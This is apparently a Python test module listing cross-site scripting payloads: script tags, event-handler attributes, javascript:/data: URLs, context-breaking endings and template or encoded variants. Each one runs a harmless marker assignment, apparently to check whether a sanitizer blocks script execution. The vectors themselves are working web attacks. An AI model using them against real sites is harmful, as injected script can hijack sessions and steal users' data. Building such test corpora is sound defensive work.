"""Texts that would run a script where a page took them for markup, an address or a template."""

from __future__ import annotations

RUN = "globalThis.ran=1"
_MARKUP = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<style>@import 'x';*{{animation:x}}</style><p onanimationstart={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
_ENDINGS = (
    '"',
    "'",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "`",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"//example.org/x.js?{RUN}",
)
_TEMPLATES = (
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{%app_entry%}}<script>{RUN}</script>",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"expression({RUN})",
    f"url(javascript:{RUN})",
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"\u202e<script>{RUN}</script>",
    f"\u2028{RUN}\u2029",
)
PAYLOADS = (
    *_MARKUP,
    *(f"{ending}<img src=x onerror={RUN}>" for ending in _ENDINGS),
    *(f"{ending} onmouseover={RUN} autofocus onfocus={RUN} x={ending}" for ending in _ENDINGS),
    *_ADDRESSES,
    *_TEMPLATES,
)
